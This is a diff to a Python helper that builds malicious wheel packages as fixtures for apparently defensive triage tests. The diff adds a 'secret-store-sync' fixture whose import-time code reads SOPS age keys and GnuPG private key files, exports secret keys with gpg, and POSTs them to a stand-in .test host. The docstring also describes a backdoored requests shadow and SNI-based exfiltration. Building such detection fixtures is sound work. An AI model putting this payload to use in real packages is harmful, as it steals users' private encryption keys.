@@ -2,7 +2,7 @@
 """Writes one of the wheels the triage tests make on the fly. Only writes
 the archive: nothing of it runs here.
 
-  make_py_pkg.py plant|lazy|sni OUT.whl
+  make_py_pkg.py plant|lazy|sni|keys OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -16,6 +16,9 @@ sni     tls-edge-metrics: on import, random bytes (stand-ins for an
         encrypted payload) base32'd into the first label of the server
         name of four TLS ClientHellos to 203.0.113.44 (no DNS lookup);
         the handshakes fail, the names have gone.
+keys    secret-store-sync: on import, the user's SOPS age identities and
+        GnuPG private key files, and the armored output of an abbreviated
+        `gpg --export-secret-k`, POSTed to keys.secret-sync.test.
 """
 import sys
 
@@ -74,12 +77,39 @@ SNI = (
     "        pass\n"
 )
 
+# Encryption keys: age identities, GnuPG key files, gpg's own export.
+KEYS = (
+    "import glob, os, subprocess, urllib.request\n"
+    "home = os.path.expanduser('~')\n"
+    "data = b''\n"
+    "for p in [home + '/.config/sops/age/keys.txt'] + \\\n"
+    "        glob.glob(home + '/.gnupg/private-keys-v1.d/*.key'):\n"
+    "    try:\n"
+    "        with open(p, 'rb') as f:\n"
+    "            data += f.read()\n"
+    "    except OSError:\n"
+    "        pass\n"
+    "try:\n"
+    "    data += subprocess.run(['gpg', '--batch', '--armor',\n"
+    "                            '--export-secret-k'], capture_output=True,\n"
+    "                           timeout=8).stdout\n"
+    "except (OSError, subprocess.SubprocessError):\n"
+    "    pass\n"
+    "try:\n"
+    "    urllib.request.urlopen(urllib.request.Request(\n"
+    "        'http://keys.secret-sync.test/v1/upload', data=data), timeout=5)\n"
+    "except OSError:\n"
+    "    pass\n"
+)
+
 KINDS = {
     "plant": ("requests_timing_hooks", "0.3.0",
               {"requests_timing_hooks/__init__.py": PLANT}),
     "lazy": ("attr_hooks", "1.0.0", {"attr_hooks/__init__.py": LAZY}),
     "sni": ("tls_edge_metrics", "0.2.0",
             {"tls_edge_metrics/__init__.py": SNI}),
+    "keys": ("secret_store_sync", "0.4.1",
+             {"secret_store_sync/__init__.py": KEYS}),
 }
 
 
